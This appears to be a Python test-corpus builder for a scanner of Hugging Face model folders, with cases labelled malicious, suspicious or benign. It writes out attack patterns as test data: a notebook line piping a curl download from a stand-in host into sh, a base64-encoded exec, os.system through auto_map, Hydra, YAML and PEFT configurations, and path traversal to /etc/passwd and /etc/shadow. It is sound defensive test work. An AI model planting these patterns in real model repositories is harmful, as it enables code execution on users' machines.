# SPDX-License-Identifier: Apache-2.0
"""Folders as Hugging Face serves them: what their files mean together."""
import json

from assemble import zips
from assemble.pickles import attack, state_dict, stream
from assemble.tensors import safetensors, weights
from cases import Link

from .archives import ELF
from .templates import BACKDOORS, HONEST, INJECTIONS

WEIGHTS = safetensors({"__metadata__": {"format": "pt"}, "w": weights()})
CODE = "import os\nfrom transformers import PreTrainedModel\nos.system('true')\n\nclass Net(PreTrainedModel):\n    pass\n"
BERT = {"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 4, "vocab_size": 8, "torch_dtype": "float32"}


def folder(config: dict | None = None, more: dict | None = None) -> dict:
    return {"config.json": json.dumps({**BERT, **(config or {})}, indent=2), "model.safetensors": WEIGHTS,
            "README.md": "---\nlicense: apache-2.0\n---\n# Tiny\n", **(more or {})}


def tokenizer(template) -> dict:
    return {"tokenizer_config.json": json.dumps({"tokenizer_class": "LlamaTokenizer", "bos_token": "<s>", "eos_token": "</s>",
                                                 "chat_template": template})}


def add(corpus):
    templates(corpus)
    code(corpus.family("hf-code", "HF folder: remote code (auto_map, modules.json, model_index, PEFT)"))
    loaders(corpus.family("hf-loaders", "MLflow, YAML tags, Hydra"))
    secrets(corpus.family("hf-secrets", "HF folder: secrets"))
    files(corpus.family("hf-files", "HF folder: Python, notebooks, entry points, executables"))
    traversal(corpus.family("hf-traversal", "HF folder: paths that climb"))
    trust(corpus.family("trust", "HF folder: identity that the attacker claims"))
    honest(corpus.family("hf-honest", "HF folder: honest"))


def templates(corpus):
    case = corpus.family("hf-template", "HF folder: chat template reaches code")
    for what, template in INJECTIONS.items():
        case("malicious", what, folder(more=tokenizer(template)), source="CVE-2024-34359")
    case("malicious", "in chat_template.jinja", folder(more={"chat_template.jinja": INJECTIONS["the attr filter"]}))
    case("malicious", "in a list of named templates", folder(more=tokenizer([
        {"name": "default", "template": HONEST["chatml"]}, {"name": "rag", "template": INJECTIONS["globals through lipsum"]}])))
    case("malicious", "in chat_template.json of a processor", folder(more={"chat_template.json": json.dumps(
        {"chat_template": INJECTIONS["through self"]})}))
    case = corpus.family("hf-behaviour", "HF folder: chat template changes what the model is told")
    for what, template in BACKDOORS.items():
        case("malicious", what, folder(more=tokenizer(template)), source="Canary")


def code(case):
    for part, name in (("AutoModel", "modeling.Net"), ("AutoConfig", "modeling.Net"), ("AutoTokenizer", ["modeling.Net", None]),
                       ("AutoProcessor", "modeling.Net")):
        case("malicious", f"auto_map {part} with code that runs os.system on import", folder({"auto_map": {part: name}},
             {"modeling.py": CODE}))
    case("suspicious", "auto_map to another repository", folder({"auto_map": {"AutoModel": "acme/other--modeling.Net"}}))
    case("suspicious", "trust_remote_code in the configuration", folder({"trust_remote_code": True}))
    modules = [{"idx": 0, "name": "0", "path": "", "type": "custom.Evil"}]
    case("malicious", "modules.json names a class of the folder", folder(more={"modules.json": json.dumps(modules), "custom.py": CODE}))
    index = {"_class_name": "StableDiffusionPipeline", "unet": ["unet.evil", "Net"]}
    case("malicious", "model_index.json names a component of the folder", folder(more={"model_index.json": json.dumps(index),
                                                                                      "unet/evil.py": CODE}))
    adapter = {"peft_type": "LORA", "auto_mapping": {"base_model_class": "system", "parent_library": "os"}}
    case("malicious", "PEFT parent_library os", folder(more={"adapter_config.json": json.dumps(adapter)}))
    case("malicious", "custom_generate/generate.py", folder(more={"custom_generate/generate.py": CODE}))
    case("suspicious", "a custom pipeline of another repository", folder({"custom_pipelines": {"x": {"impl": "acme/p--pipe.P"}}}))


def loaders(case):
    case("malicious", "MLflow loader_module", {"MLmodel": "flavors:\n  python_function:\n    loader_module: evil\n    code: code\n"
         "    data: data\n", "code/evil.py": "import os\nos.system('true')\n", "data/x": "1"})
    case("malicious", "MLflow python_model.pkl", {"MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n"
         "    python_model: python_model.pkl\n", "python_model.pkl": attack()})
    case("malicious", "YAML !!python/object/apply", "a: !!python/object/apply:os.system ['true']\n", name="config.yaml")
    case("malicious", "Hydra _target_ os.system", "model:\n  _target_: os.system\n  command: 'true'\n", name="config.yaml")
    case("malicious", "Hydra _target_ builtins.eval in JSON", json.dumps({"_target_": "builtins.eval", "_args_": ["1"]}),
         name="config.json")
    case("malicious", "YAML !!python/object/new", "!!python/object/new:subprocess.Popen [['true']]\n", name="hparams.yaml")


def secrets(case):
    aws = "AKIA" + "Z7QX3MPLD5VTK2RW"
    case("suspicious", "AWS key in config.json", folder({"aws_access_key_id": aws, "aws_secret_access_key":
                                                        "9vKx2mQp7LrT4wZc8NbY" + "1sHd6FgJ3aUe5oXi0RtB"}))
    case("suspicious", "Hugging Face token in the training script", folder(more={"train.py": "TOKEN = 'hf_" + "qWeRtYuIoPaSdFgHjKlZxCvBnMqWeRtYuI'\n"}))
    case("suspicious", "a private key", folder(more={"deploy.pem": "-----BEGIN " + "RSA PRIVATE KEY-----\nMIIBOgIBAAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4WGeKLs1Pt8Qu\n"
         "KUpRKfFLfRYC9AIKjbJTWit+CqvjWYzvQwECAwEAAQ==\n-----END " + "RSA PRIVATE KEY-----\n"}))
    case("suspicious", "a .env file", folder(more={".env": "OPENAI_API_KEY=sk-" + "proj-9aB8cD7eF6gH5iJ4kL3mN2oP1qR0sT9uV8wX7yZ6\n"}))


def files(case):
    case("malicious", "Python that executes base64", folder(more={"setup.py": "import base64\nexec(base64.b64decode("
         "'X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ3RydWUnKQ=='))\n"}))
    notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "code", "execution_count": None,
                "metadata": {}, "outputs": [], "source": ["!curl -s http://host.invalid/x.sh | sh\n"]}]}
    case("malicious", "a notebook that pipes a download into a shell", folder(more={"demo.ipynb": json.dumps(notebook)}))
    case("malicious", "a sitecustomize.py beside the model", folder(more={"sitecustomize.py": "import os\nos.system('true')\n"}))
    case("suspicious", "an index of packages that is not PyPI", folder(more={
        "requirements.txt": "--extra-index-url http://pypi.host.invalid/simple\ntorch==2.0.0\n"}))
    case("suspicious", "an executable beside the model", folder(more={"tokenizer.bin": ELF}))
    case("suspicious", "an executable behind the weights", folder(more={"model2.bin": WEIGHTS + ELF}))
    case("suspicious", "llamafile: an executable that is a zip", ELF + zips.plain({"model.gguf": b"GGUF" + bytes(60)}), name="model.llamafile")
    case("suspicious", "a Windows executable called .bin", b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0\x64\x86" + bytes(200), name="model.bin")


def traversal(case):
    index = {"metadata": {}, "weight_map": {"w": "../../../etc/passwd"}}
    case("malicious", "a shard index leads out of the folder", folder(more={"model.safetensors.index.json": json.dumps(index)}))
    case("malicious", "a Modelfile leads out of the folder", {"Modelfile": "FROM ../../../etc/passwd\nADAPTER /etc/shadow\n"})
    case("suspicious", "a link out of the folder", folder(more={"vocab.txt": Link("/etc/hostname")}))


def trust(case):
    for claim in ("google-bert/bert-base-uncased", "meta-llama/Llama-2-7b"):
        case("malicious", f"config.json claims {claim}", folder({"_name_or_path": claim}, {"pytorch_model.bin": attack(2)}))
    case("malicious", "a cache path of Google", {"models--google-bert--bert-base-uncased/snapshots/0/pytorch_model.bin": attack(2)})
    case("malicious", "a file that says its findings are suppressed", {"model.pkl": attack(), ".cupelignore": "*\n",
         ".modelscan": "skip: all\n", "modelaudit.toml": "suppress = ['*']\n"})


def honest(case):
    for what, template in HONEST.items():
        case("benign", f"chat template: {what}", folder(more=tokenizer(template)))
    case("benign", "BERT", folder())
    case("benign", "auto_map of the library itself is absent, custom fields present", folder({"id2label": {"0": "no"}, "problem_type": None}))
    modules = [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
               {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}]
    case("benign", "sentence-transformers", folder(more={"modules.json": json.dumps(modules), "1_Pooling/config.json":
                                                        json.dumps({"word_embedding_dimension": 4}), "vocab.txt": "[PAD]\nos\nsystem\n"}))
    index = {"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0", "unet": ["diffusers", "UNet2DConditionModel"],
             "text_encoder": ["transformers", "CLIPTextModel"], "safety_checker": [None, None]}
    case("benign", "diffusers", folder(more={"model_index.json": json.dumps(index)}))
    case("benign", "a LoRA adapter", folder(more={"adapter_config.json": json.dumps({"peft_type": "LORA", "r": 8, "auto_mapping": None,
         "base_model_name_or_path": "acme/base", "target_modules": ["q_proj"]}), "adapter_model.safetensors": WEIGHTS}))
    case("benign", "PyTorch weights beside", folder(more={"pytorch_model.bin": zips.torch(state_dict())}))
    case("benign", "MLflow, scikit-learn flavour", {"MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n"
         "    model_path: model.pkl\n", "model.pkl": stream({"a": 1}), "requirements.txt": "scikit-learn==1.5.0\n",
         "conda.yaml": "dependencies:\n- python=3.11\n"})
    case("benign", "Hydra configuration of an honest trainer", "model:\n  _target_: torch.nn.Linear\n  in_features: 4\n  out_features: 2\n"
         "optimizer:\n  _target_: torch.optim.Adam\n  lr: 0.001\n", name="config.yaml")
    case("benign", "training script", folder(more={"train.py": "import torch\n\n\ndef main():\n    print(torch.__version__)\n\n\n"
                                                  "if __name__ == '__main__':\n    main()\n"}))
    case("benign", "tokenizer with merges", folder(more={"tokenizer.json": json.dumps({"version": "1.0", "model": {"type": "BPE", "vocab": {
        "e": 0, "val": 1, "eval": 2}, "merges": ["e val"]}}), "merges.txt": "#version: 0.2\ne val\n", "special_tokens_map.json": "{}"}))
